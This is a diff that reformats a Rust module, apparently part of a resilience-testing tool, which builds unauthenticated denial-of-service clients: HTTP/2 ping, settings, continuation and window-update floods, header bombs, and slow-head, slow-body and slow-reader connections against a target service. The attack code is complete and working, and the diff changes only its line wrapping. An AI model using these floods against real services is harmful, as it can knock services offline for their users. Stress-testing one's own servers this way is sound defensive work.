@@ -1,4 +1,5 @@
-//! Clients without credentials that try to stop a service: HTTP/2 floods, slow and idle connections, large heads.
+//! Clients without credentials that try to stop a service: HTTP/2 floods, slow and idle
+//! connections, large heads.
 
 use std::io;
 use std::net::{IpAddr, SocketAddr};
@@ -14,7 +15,8 @@ use tokio::task::JoinSet;
 use tokio::time::{MissedTickBehavior, interval};
 
 use crate::http2::{
-    END_HEADERS, END_STREAM, INITIAL_WINDOW_SIZE, REPEATED, frame, indexed_header, kind, literals, opening,
+    END_HEADERS, END_STREAM, INITIAL_WINDOW_SIZE, REPEATED, frame, indexed_header, kind, literals,
+    opening,
 };
 
 /// The interval of slow clients, and of reconnecting after a refused connection.
@@ -149,19 +151,31 @@ impl Attack {
             Self::SlowHeads => Script::slow(head("GET", "/"), b"x".to_vec()),
             Self::SlowBodies => {
                 let mut request = head("POST", OPERATION);
-                request.extend(b"content-type: application/json\r\ncontent-length: 1048576\r\n\r\n");
+                request
+                    .extend(b"content-type: application/json\r\ncontent-length: 1048576\r\n\r\n");
                 request.extend([b' '; 64 << 10]);
                 Script::slow(request, b" ".to_vec())
             }
-            Self::SlowReaders => Script::unread([&head("GET", RESOURCE)[..], b"\r\n"].concat().repeat(1000)),
-            Self::LargeHeads => Script::once([&head("GET", "/")[..], b"x-large: ", &[b'x'; 80 << 10]].concat()),
-            Self::PingAcknowledgements => Script { reading: Reading::Acknowledging, ..Script::once(open(&get(1))) },
+            Self::SlowReaders => {
+                Script::unread([&head("GET", RESOURCE)[..], b"\r\n"].concat().repeat(1000))
+            }
+            Self::LargeHeads => {
+                Script::once([&head("GET", "/")[..], b"x-large: ", &[b'x'; 80 << 10]].concat())
+            }
+            Self::PingAcknowledgements => Script {
+                reading: Reading::Acknowledging,
+                ..Script::once(open(&get(1)))
+            },
             Self::DataDribble => {
                 let opening = opening(&[(INITIAL_WINDOW_SIZE, 1)]);
-                let more = (0..100).flat_map(|n| frame(kind::WINDOW_UPDATE, 0, 2 * n + 1, &[0, 0, 0, 1])).collect();
+                let more = (0..100)
+                    .flat_map(|n| frame(kind::WINDOW_UPDATE, 0, 2 * n + 1, &[0, 0, 0, 1]))
+                    .collect();
                 Script::slow([opening, gets(100)].concat(), more)
             }
-            Self::Pings => Script::flood(open(&[]), &frame(kind::PING, 0, 0, &[7; 8])).without_reading(),
+            Self::Pings => {
+                Script::flood(open(&[]), &frame(kind::PING, 0, 0, &[7; 8])).without_reading()
+            }
             Self::Priorities => {
                 let frames = (0..64).flat_map(|n: u32| {
                     let [a, b, c, d] = (2 * ((n + 1) % 64) + 1).to_be_bytes();
@@ -173,10 +187,14 @@ impl Attack {
                 let opening = open(&get(1));
                 Script::flood(opening, &frame(kind::DATA, END_STREAM, 1, b"x")).without_reading()
             }
-            Self::Settings => Script::flood(open(&[]), &frame(kind::SETTINGS, 0, 0, &[])).without_reading(),
+            Self::Settings => {
+                Script::flood(open(&[]), &frame(kind::SETTINGS, 0, 0, &[])).without_reading()
+            }
             Self::EmptyHeaders => {
                 let block = literals(&[("", "")].repeat(2000));
-                Script::streams(open(&[]), move |stream| frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &block))
+                Script::streams(open(&[]), move |stream| {
+                    frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &block)
+                })
             }
             Self::BufferedData => {
                 let mut opening = opening(&[(INITIAL_WINDOW_SIZE, i32::MAX.unsigned_abs())]);
@@ -192,15 +210,29 @@ impl Attack {
                 })
             }
             Self::Continuations => {
-                let opening = open(&frame(kind::HEADERS, END_STREAM, 1, &literals(&[(":method", "GET")])));
+                let opening = open(&frame(
+                    kind::HEADERS,
+                    END_STREAM,
+                    1,
+                    &literals(&[(":method", "GET")]),
+                ));
                 Script::flood(opening, &frame(kind::CONTINUATION, 0, 1, &[]))
             }
-            Self::WindowUpdates => Script::flood(open(&post(0)), &frame(kind::WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])),
+            Self::WindowUpdates => Script::flood(
+                open(&post(0)),
+                &frame(kind::WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]),
+            ),
             Self::HeaderBombs => {
                 let repeated = [REPEATED].repeat(12 << 10);
-                let block =
-                    [target.head("GET", RESOURCE), indexed_header("x-bomb", &"x".repeat(3900)), repeated].concat();
-                Script::streams(open(&[]), move |stream| frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &block))
+                let block = [
+                    target.head("GET", RESOURCE),
+                    indexed_header("x-bomb", &"x".repeat(3900)),
+                    repeated,
+                ]
+                .concat();
+                Script::streams(open(&[]), move |stream| {
+                    frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &block)
+                })
             }
         }
     }
@@ -223,7 +255,11 @@ impl Target {
     /// # Errors
     /// The service refuses it, or this machine has no more connections.
     pub async fn connect(&self) -> io::Result<TcpStream> {
-        let socket = if self.from.is_ipv4() { TcpSocket::new_v4() } else { TcpSocket::new_v6() }?;
+        let socket = if self.from.is_ipv4() {
+            TcpSocket::new_v4()
+        } else {
+            TcpSocket::new_v6()
+        }?;
         self.connect_with(socket).await
     }
 
@@ -234,7 +270,11 @@ impl Target {
 
     /// A connection with a small receive buffer.
     async fn connect_narrow(&self) -> io::Result<TcpStream> {
-        let socket = if self.from.is_ipv4() { TcpSocket::new_v4() } else { TcpSocket::new_v6() }?;
+        let socket = if self.from.is_ipv4() {
+            TcpSocket::new_v4()
+        } else {
+            TcpSocket::new_v6()
+        }?;
         socket.set_recv_buffer_size(NARROW_BYTES)?;
         self.connect_with(socket).await
     }
@@ -242,19 +282,34 @@ impl Target {
     /// The forwarding header with the client.
     #[must_use]
     pub fn forwarded(&self) -> String {
-        self.forwarded_for.map(|client| format!("x-forwarded-for: {client}\r\n")).unwrap_or_default()
+        self.forwarded_for
+            .map(|client| format!("x-forwarded-for: {client}\r\n"))
+            .unwrap_or_default()
     }
 
     fn head(&self, method: &str, path: &str) -> Vec<u8> {
-        let (address, client) = (self.address.to_string(), self.forwarded_for.map(|client| client.to_string()));
-        let mut headers = vec![(":method", method), (":scheme", "http"), (":path", path), (":authority", &address)];
+        let (address, client) = (
+            self.address.to_string(),
+            self.forwarded_for.map(|client| client.to_string()),
+        );
+        let mut headers = vec![
+            (":method", method),
+            (":scheme", "http"),
+            (":path", path),
+            (":authority", &address),
+        ];
         headers.push(("content-type", "application/json"));
         headers.extend(client.as_deref().map(|client| ("x-forwarded-for", client)));
         literals(&headers)
     }
 
     fn request(&self, stream: u32, flags: u8, method: &str, path: &str) -> Vec<u8> {
-        frame(kind::HEADERS, flags | END_HEADERS, stream, &self.head(method, path))
+        frame(
+            kind::HEADERS,
+            flags | END_HEADERS,
+            stream,
+            &self.head(method, path),
+        )
     }
 }
 
@@ -279,7 +334,12 @@ enum Reading {
 
 impl Script {
     fn once(opening: Vec<u8>) -> Self {
-        Self { opening, repeated: None, is_slow: false, reading: Reading::Draining }
+        Self {
+            opening,
+            repeated: None,
+            is_slow: false,
+            reading: Reading::Draining,
+        }
     }
 
     fn unread(opening: Vec<u8>) -> Self {
@@ -287,12 +347,19 @@ impl Script {
     }
 
     fn slow(opening: Vec<u8>, more: Vec<u8>) -> Self {
-        Self { repeated: Some(Box::new(move || more.clone())), is_slow: true, ..Self::once(opening) }
+        Self {
+            repeated: Some(Box::new(move || more.clone())),
+            is_slow: true,
+            ..Self::once(opening)
+        }
     }
 
     fn flood(opening: Vec<u8>, frames: &[u8]) -> Self {
         let batch = frames.repeat((BATCH_BYTES / frames.len()).max(1));
-        Self { repeated: Some(Box::new(move || batch.clone())), ..Self::once(opening) }
+        Self {
+            repeated: Some(Box::new(move || batch.clone())),
+            ..Self::once(opening)
+        }
     }
 
     /// A flood of requests, each on a new stream.
@@ -306,15 +373,26 @@ impl Script {
             }
             batch
         };
-        Self { repeated: Some(Box::new(batch)), ..Self::once(opening) }
+        Self {
+            repeated: Some(Box::new(batch)),
+            ..Self::once(opening)
+        }
     }
 
     fn without_reading(self) -> Self {
-        Self { reading: Reading::Never, ..self }
+        Self {
+            reading: Reading::Never,
+            ..self
+        }
     }
 
     /// Runs until the service closes the connection; calls `begun` after sending the opening.
-    async fn run(mut self, stream: TcpStream, sent: &AtomicU64, begun: impl FnOnce()) -> io::Result<()> {
+    async fn run(
+        mut self,
+        stream: TcpStream,
+        sent: &AtomicU64,
+        begun: impl FnOnce(),
+    ) -> io::Result<()> {
         let (reader, mut writer) = stream.into_split();
         let opened = writer.write_all(&self.opening).await;
         begun();
@@ -343,7 +421,11 @@ impl Script {
 }
 
 /// Reads until the connection ends, if at all.
-async fn read(mut reader: OwnedReadHalf, reading: Reading, writer: Option<OwnedWriteHalf>) -> io::Result<()> {
+async fn read(
+    mut reader: OwnedReadHalf,
+    reading: Reading,
+    writer: Option<OwnedWriteHalf>,
+) -> io::Result<()> {
     match (reading, writer) {
         (Reading::Never, writer) => {
             // The socket reports an error when the service has closed it.
@@ -358,7 +440,9 @@ async fn read(mut reader: OwnedReadHalf, reading: Reading, writer: Option<OwnedW
             let mut payload = vec![0; usize::from(high) << 8 | usize::from(low)];
             reader.read_exact(&mut payload).await?;
             if (kind, flags) == (kind::PING, 0) {
-                writer.write_all(&frame(kind::PING, END_STREAM, 0, &payload)).await?;
+                writer
+                    .write_all(&frame(kind::PING, END_STREAM, 0, &payload))
+                    .await?;
             }
         },
         (_, writer) => {
@@ -391,8 +475,12 @@ impl Attackers {
         let begin = Arc::new(begin);
         let mut tasks = JoinSet::new();
         for _ in 0..attack.connections() {
-            let (target, begin, sent, ended) =
-                (target.clone(), Arc::clone(&begin), Arc::clone(&sent), Arc::clone(&ended));
+            let (target, begin, sent, ended) = (
+                target.clone(),
+                Arc::clone(&begin),
+                Arc::clone(&sent),
+                Arc::clone(&ended),
+            );
             tasks.spawn(async move {
                 let mut first = Some(move || begin.send_modify(|count| *count += 1));
                 let mut again = interval(PACE);
@@ -413,7 +501,13 @@ impl Attackers {
                 }
             });
         }
-        Self { _tasks: tasks, begun, count: attack.connections(), sent, ended }
+        Self {
+            _tasks: tasks,
+            begun,
+            count: attack.connections(),
+            sent,
+            ended,
+        }
     }
 
     /// Waits until every connection was opened and has sent its first bytes.
